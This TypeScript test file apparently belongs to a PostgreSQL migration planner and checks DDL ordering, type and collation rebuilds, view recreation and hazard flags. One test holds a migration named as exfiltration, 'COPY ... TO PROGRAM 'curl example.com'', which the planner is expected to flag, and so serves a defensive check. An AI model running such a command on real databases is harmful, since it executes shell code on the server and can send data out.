import assert from "node:assert/strict";
import { test } from "node:test";
import { snapshotHash } from "../catalog/equality.ts";
import type { Snapshot } from "../catalog/snapshot.ts";
import { diff3 } from "../diff/diff3.ts";
import {
  collation,
  column,
  comment,
  constraint,
  edit,
  enumType,
  grant,
  index,
  shuffled,
  table,
  view,
} from "../fixtures/builders.ts";
import { shop } from "../fixtures/shop.ts";
import { plan } from "./plan.ts";
import type { Statement } from "./types.ts";

const base = shop();

function planOf(
  branch: Snapshot,
  parent: Snapshot = base,
  migrations?: { name: string; sql: string }[],
) {
  return plan(diff3(base, parent, branch), { base, parent, branch, migrations });
}

const sqls = (ss: Statement[]) => ss.map((s) => s.sql);
const at = (ss: Statement[], re: RegExp) => {
  const i = ss.findIndex((s) => re.test(s.sql));
  assert.ok(i >= 0, `no statement matches ${re}`);
  return i;
};

test("new objects come in dependency order: enum, table, columns inline, key, foreign key, view", () => {
  const branch = edit(base, {
    add: [
      enumType("public.kind", ["a", "b"]),
      table("public.refunds"),
      column("public.refunds.id", "integer", { position: 1, notNull: true }),
      column("public.refunds.kind", "public.kind", {
        position: 2,
        deps: ["table:public.refunds", "enum:public.kind"],
      }),
      column("public.refunds.order_id", "integer", { position: 3 }),
      constraint(
        "public.refunds.refunds_order_fkey",
        "f",
        "FOREIGN KEY (order_id) REFERENCES public.orders(id)",
        {
          references: "public.orders",
        },
      ),
      constraint("public.refunds.refunds_pkey", "p", "PRIMARY KEY (id)"),
      view("public.refund_kinds", " SELECT refunds.kind\n   FROM public.refunds;", [
        "column:public.refunds.kind",
      ]),
    ],
  });
  const { statements } = planOf(branch);
  assert.deepEqual(sqls(statements), [
    `CREATE TYPE "public"."kind" AS ENUM ('a', 'b');`,
    // The snapshot has no PUBLIC grant on the new type: the default one is revoked.
    'REVOKE USAGE ON TYPE "public"."kind" FROM PUBLIC;',
    `CREATE TABLE "public"."refunds" (\n    "id" integer NOT NULL,\n    "kind" public.kind,\n    "order_id" integer\n);`,
    `ALTER TABLE "public"."refunds" ADD CONSTRAINT "refunds_pkey" PRIMARY KEY (id);`,
    `ALTER TABLE "public"."refunds" ADD CONSTRAINT "refunds_order_fkey" FOREIGN KEY (order_id) REFERENCES public.orders(id);`,
    `CREATE VIEW "public"."refund_kinds" AS\n SELECT refunds.kind\n   FROM public.refunds;`,
  ]);
  // An empty new table risks nothing.
  assert.deepEqual(
    statements.map((s) => s.hazards),
    [[], [], [], [], [], []],
  );
});

test("a foreign key waits for the table it references, whatever the names", () => {
  const branch = edit(base, {
    add: [
      table("public.aaa"),
      column("public.aaa.zzz_id", "integer"),
      constraint("public.aaa.aaa_fkey", "f", "FOREIGN KEY (zzz_id) REFERENCES public.zzz(id)", {
        references: "public.zzz",
      }),
      table("public.zzz"),
      column("public.zzz.id", "integer", { notNull: true }),
      constraint("public.zzz.zzz_pkey", "p", "PRIMARY KEY (id)"),
    ],
  });
  const s = planOf(branch).statements;
  assert.ok(at(s, /CREATE TABLE "public"."zzz"/) < at(s, /aaa_fkey/));
  assert.ok(at(s, /zzz_pkey/) < at(s, /aaa_fkey/));
});

test("drops run in reverse dependency order: view, foreign key, table, enum", () => {
  const branch = edit(base, {
    remove: [
      "view:public.open_orders",
      "table:public.orders",
      "column:public.orders.id",
      "column:public.orders.status",
      "column:public.orders.total",
      "constraint:public.orders.orders_pkey",
      "constraint:public.items.items_order_id_fkey",
      "enum:public.status",
    ],
  });
  assert.deepEqual(sqls(planOf(branch).statements), [
    `DROP VIEW "public"."open_orders";`,
    `ALTER TABLE "public"."items" DROP CONSTRAINT "items_order_id_fkey";`,
    `DROP TABLE "public"."orders";`,
    `DROP TYPE "public"."status";`,
  ]);
});

test("columns change with ALTER TABLE, never by recreating the table, each with its hazards", () => {
  const branch = edit(base, {
    add: [
      column("public.items.sku", "text", { position: 2, notNull: true }),
      column("public.items.qty", "integer", { position: 3, notNull: true, default: "1" }),
      column("public.items.order_id", "bigint", { position: 1 }),
    ],
    remove: ["constraint:public.items.items_order_id_fkey"],
  });
  const s = planOf(branch).statements;
  assert.ok(!s.some((x) => /DROP TABLE|CREATE TABLE/.test(x.sql)));
  const by = (re: RegExp) => s[at(s, re)];
  assert.deepEqual(by(/ADD COLUMN "qty"/).hazards, ["access-exclusive-lock"]);
  assert.equal(
    by(/ADD COLUMN "qty"/).sql,
    `ALTER TABLE "public"."items" ADD COLUMN "qty" integer DEFAULT 1 NOT NULL;`,
  );
  assert.deepEqual(by(/"sku" SET NOT NULL/).hazards, [
    "access-exclusive-lock",
    "may-fail-on-existing-rows",
  ]);
  const retype = by(/TYPE bigint/);
  assert.equal(
    retype.sql,
    `ALTER TABLE "public"."items" ALTER COLUMN "order_id" TYPE bigint USING "order_id"::bigint;`,
  );
  assert.deepEqual(retype.hazards, [
    "access-exclusive-lock",
    "rewrites-table",
    "may-fail-on-existing-rows",
  ]);
  // The constraint on the column goes first.
  assert.ok(at(s, /DROP CONSTRAINT "items_order_id_fkey"/) < at(s, /TYPE bigint/));
});

test("a dropped column deletes data and says a rename needs a migration", () => {
  const s = planOf(edit(base, { remove: ["column:public.items.sku"] })).statements;
  assert.equal(s.length, 1);
  assert.equal(s[0].sql, `ALTER TABLE "public"."items" DROP COLUMN "sku";`);
  assert.deepEqual(s[0].hazards, ["access-exclusive-lock", "deletes-data"]);
  assert.match(s[0].notes.join(), /rename cannot be told from a drop and an add.*migration/);
});

test("identity, NOT NULL and defaults change in a working order", () => {
  const before = edit(base, {
    add: [column("public.items.n", "integer", { position: 3, default: "7" })],
  });
  const after = edit(before, {
    add: [
      column("public.items.n", "integer", { position: 3, notNull: true, identity: "by-default" }),
    ],
  });
  const s = plan(diff3(before, before, after), {
    base: before,
    parent: before,
    branch: after,
  }).statements;
  assert.deepEqual(sqls(s), [
    `ALTER TABLE "public"."items" ALTER COLUMN "n" DROP DEFAULT;`,
    `ALTER TABLE "public"."items" ALTER COLUMN "n" SET NOT NULL;`,
    `ALTER TABLE "public"."items" ALTER COLUMN "n" ADD GENERATED BY DEFAULT AS IDENTITY;`,
  ]);
});

test("enum labels are added in order, each next to one that exists", () => {
  const branch = edit(base, {
    add: [enumType("public.status", ["draft", "new", "held", "paid", "refunded"])],
  });
  assert.deepEqual(sqls(planOf(branch).statements), [
    `ALTER TYPE "public"."status" ADD VALUE 'draft' BEFORE 'new';`,
    `ALTER TYPE "public"."status" ADD VALUE 'held' AFTER 'new';`,
    `ALTER TYPE "public"."status" ADD VALUE 'refunded' AFTER 'paid';`,
  ]);
});

test("a new label used later in the same merge rebuilds the type, so one transaction can use it", () => {
  const branch = edit(base, {
    add: [
      enumType("public.status", ["new", "paid", "held"]),
      column("public.orders.status", "public.status", {
        position: 2,
        default: "'held'::public.status",
        deps: ["table:public.orders", "enum:public.status"],
      }),
    ],
  });
  const s = planOf(branch).statements;
  assert.ok(!s.some((x) => /ADD VALUE/u.test(x.sql)), sqls(s).join("\n"));
  const create = at(s, /CREATE TYPE "public"."status" AS ENUM \('new', 'paid', 'held'\)/);
  assert.ok(create > at(s, /RENAME TO "status__bough_old"/));
  assert.ok(at(s, /SET DEFAULT 'held'::public.status/) > create);
  assert.match(s[at(s, /RENAME TO/)].notes.join(" "), /used later in this merge/);
});

test("a removed label rebuilds the type: rename, create, convert columns, drop the old; readers around it", () => {
  const branch = edit(base, { add: [enumType("public.status", ["paid", "new"])] });
  const s = planOf(branch).statements;
  assert.deepEqual(sqls(s), [
    `DROP VIEW "public"."open_orders";`,
    `ALTER TYPE "public"."status" RENAME TO "status__bough_old";`,
    `CREATE TYPE "public"."status" AS ENUM ('paid', 'new');`,
    'REVOKE USAGE ON TYPE "public"."status" FROM PUBLIC;',
    `ALTER TABLE "public"."orders" ALTER COLUMN "status" DROP DEFAULT;`,
    `ALTER TABLE "public"."orders" ALTER COLUMN "status" TYPE public.status USING "status"::text::public.status;`,
    `ALTER TABLE "public"."orders" ALTER COLUMN "status" SET DEFAULT 'new'::public.status;`,
    `DROP TYPE "public"."status__bough_old";`,
    `CREATE VIEW "public"."open_orders" AS\n SELECT orders.id,\n    orders.total\n   FROM public.orders\n  WHERE orders.status = 'new'::public.status;`,
  ]);
  assert.equal(s[0].changeKind, "recreate");
});

test("a view is dropped and recreated around a type change of a column it reads, with its grant and comment", () => {
  const withExtras = edit(base, {
    add: [
      grant("view:public.open_orders", "reader", ["SELECT"]),
      comment("view:public.open_orders", "open ones"),
    ],
  });
  const branch = edit(withExtras, {
    add: [column("public.orders.total", "numeric(12,2)", { position: 3 })],
  });
  const s = plan(diff3(withExtras, withExtras, branch), {
    base: withExtras,
    parent: withExtras,
    branch,
  }).statements;
  assert.deepEqual(sqls(s), [
    `DROP VIEW "public"."open_orders";`,
    `ALTER TABLE "public"."orders" ALTER COLUMN "total" TYPE numeric(12,2) USING "total"::numeric(12,2);`,
    `CREATE VIEW "public"."open_orders" AS\n SELECT orders.id,\n    orders.total\n   FROM public.orders\n  WHERE orders.status = 'new'::public.status;`,
    `GRANT SELECT ON TABLE "public"."open_orders" TO "reader";`,
    `COMMENT ON VIEW "public"."open_orders" IS 'open ones';`,
  ]);
  assert.ok(s[0].hazards.includes("drops-dependents"));
  assert.match(s[0].notes.join(), /recreated because column:public.orders.total changes type/);
});

test("a view that only gains columns at the end is replaced in place", () => {
  const v = view(
    "public.open_orders",
    " SELECT orders.id,\n    orders.total,\n    orders.status\n   FROM public.orders\n  WHERE orders.status = 'new'::public.status;",
    [],
  );
  const s = planOf(edit(base, { add: [v] })).statements;
  assert.equal(s.length, 1);
  assert.match(s[0].sql, /^CREATE OR REPLACE VIEW "public"."open_orders" AS/);
});

test("a changed index is dropped and created again", () => {
  const i = index(
    "public.items_sku",
    "public.items",
    "CREATE INDEX items_sku ON public.items USING btree (sku)",
  );
  const before = edit(base, { add: [i] });
  const after = edit(before, {
    add: [{ ...i, definition: "CREATE UNIQUE INDEX items_sku ON public.items USING btree (sku)" }],
  });
  const s = plan(diff3(before, before, after), {
    base: before,
    parent: before,
    branch: after,
  }).statements;
  assert.deepEqual(sqls(s), [
    `DROP INDEX "public"."items_sku";`,
    "CREATE UNIQUE INDEX items_sku ON public.items USING btree (sku);",
  ]);
  assert.deepEqual(s[1].hazards, ["blocks-writes"]);
});

test("a change only the parent made is kept: nothing planned, and a rebuilt dependent keeps the parent's version", () => {
  const parentGrant = grant("view:public.open_orders", "auditor", ["SELECT"]);
  const parent = edit(base, { add: [parentGrant] });
  assert.deepEqual(planOf(base, parent).statements, []);
  // The branch retypes a column the view reads: the view is rebuilt, the parent's grant with it.
  const branch = edit(base, {
    add: [column("public.orders.id", "bigint", { position: 1, notNull: true })],
  });
  const s = planOf(branch, parent).statements;
  assert.ok(sqls(s).includes(`GRANT SELECT ON TABLE "public"."open_orders" TO "auditor";`));
});

test("migrations come first, verbatim; the plan records the parent's hash; conflicts block", () => {
  const branch = edit(base, { add: [column("public.items.qty", "integer", { position: 3 })] });
  const p = planOf(branch, base, [
    { name: "001_rename.sql", sql: "ALTER TABLE items RENAME sku TO code;" },
  ]);
  assert.equal(p.statements[0].layer, "migration");
  assert.equal(p.statements[0].sql, "ALTER TABLE items RENAME sku TO code;");
  assert.equal(p.statements[0].objectId, "migration:001_rename.sql");
  assert.deepEqual(p.statements[0].hazards, []);
  const outside = planOf(branch, base, [
    { name: "002_exfil.sql", sql: "COPY (SELECT 1) TO PROGRAM 'curl example.com';" },
  ]);
  assert.deepEqual(outside.statements[0].hazards, ["reaches-outside-the-database"]);
  assert.equal(p.statements[1].layer, "ddl");
  assert.equal(p.parentHash, snapshotHash(base));
  assert.equal(p.blocked, false);
  const parent = edit(base, { add: [column("public.items.qty", "bigint", { position: 3 })] });
  assert.equal(planOf(branch, parent).blocked, true);
});

test("functions are created with body checks off for the transaction", () => {
  const f = {
    kind: "function" as const,
    id: "function:public.f()",
    deps: ["schema:public"],
    schema: "public",
    name: "f",
    identityArgs: "",
    prokind: "f" as const,
    definition:
      "CREATE OR REPLACE FUNCTION public.f()\n RETURNS integer\n LANGUAGE sql\nAS $function$select 1$function$\n",
    returns: "integer",
  };
  const s = planOf(edit(base, { add: [f] })).statements;
  assert.deepEqual(sqls(s), [
    "SET LOCAL check_function_bodies = off;",
    "CREATE OR REPLACE FUNCTION public.f()\n RETURNS integer\n LANGUAGE sql\nAS $function$select 1$function$;",
    'REVOKE EXECUTE ON FUNCTION "public"."f"() FROM PUBLIC;',
  ]);
});

test("the same inputs give the same plan, whatever the key order", () => {
  const branch = edit(base, {
    add: [
      enumType("public.status", ["paid", "new"]),
      column("public.items.qty", "integer", { position: 3 }),
    ],
    remove: ["column:public.items.sku"],
  });
  const a = planOf(branch);
  const sb = shuffled(branch);
  const b = plan(diff3(shuffled(base), shuffled(base), sb), {
    base: shuffled(base),
    parent: shuffled(base),
    branch: sb,
  });
  assert.deepEqual(b, a);
});

test("a new collation comes before the column that uses it; a dropped one after its last user moved off", () => {
  const numeric = collation("public.numeric", { locale: "en-u-kn-true" });
  const sku = (c: string | null, deps: string[] = []) =>
    column("public.items.sku", "text", {
      position: 2,
      collation: c,
      deps: ["table:public.items", ...deps],
    });
  const withIt = edit(base, {
    add: [numeric, sku("public.numeric", ["collation:public.numeric"])],
  });
  assert.deepEqual(sqls(planOf(withIt).statements), [
    `CREATE COLLATION "public"."numeric" (provider = icu, locale = 'en-u-kn-true', deterministic = true);`,
    `ALTER TABLE "public"."items" ALTER COLUMN "sku" TYPE text COLLATE public.numeric;`,
  ]);
  const s = plan(diff3(withIt, withIt, base), { base: withIt, parent: withIt, branch: base });
  assert.deepEqual(sqls(s.statements), [
    `ALTER TABLE "public"."items" ALTER COLUMN "sku" TYPE text;`,
    `DROP COLLATION "public"."numeric";`,
  ]);
});

test("a changed collation in use is rebuilt like a type: rename, create, convert columns keeping COLLATE, drop the old", () => {
  const numeric = collation("public.numeric", { locale: "en-u-kn-true" });
  const uses = ["collation:public.numeric"];
  const before = edit(base, {
    add: [
      numeric,
      column("public.items.sku", "text", {
        position: 2,
        collation: "public.numeric",
        deps: ["table:public.items", ...uses],
      }),
      index(
        "public.items_sku",
        "public.items",
        "CREATE INDEX items_sku ON public.items USING btree (sku)",
        {
          deps: ["table:public.items", "column:public.items.sku", ...uses],
        },
      ),
    ],
  });
  const after = edit(before, { add: [{ ...numeric, locale: "de-u-kn-true" }] });
  const s = plan(diff3(before, before, after), { base: before, parent: before, branch: after });
  assert.deepEqual(sqls(s.statements), [
    `DROP INDEX "public"."items_sku";`,
    `ALTER COLLATION "public"."numeric" RENAME TO "numeric__bough_old";`,
    `CREATE COLLATION "public"."numeric" (provider = icu, locale = 'de-u-kn-true', deterministic = true);`,
    `ALTER TABLE "public"."items" ALTER COLUMN "sku" TYPE text COLLATE public.numeric USING "sku"::text::text;`,
    `DROP COLLATION "public"."numeric__bough_old";`,
    "CREATE INDEX items_sku ON public.items USING btree (sku);",
  ]);
  // Unused, it is simply dropped and created again.
  const unused = edit(base, { add: [numeric] });
  const again = edit(unused, { add: [{ ...numeric, deterministic: false }] });
  assert.deepEqual(
    sqls(
      plan(diff3(unused, unused, again), { base: unused, parent: unused, branch: again })
        .statements,
    ),
    [
      `DROP COLLATION "public"."numeric";`,
      `CREATE COLLATION "public"."numeric" (provider = icu, locale = 'en-u-kn-true', deterministic = false);`,
    ],
  );
});
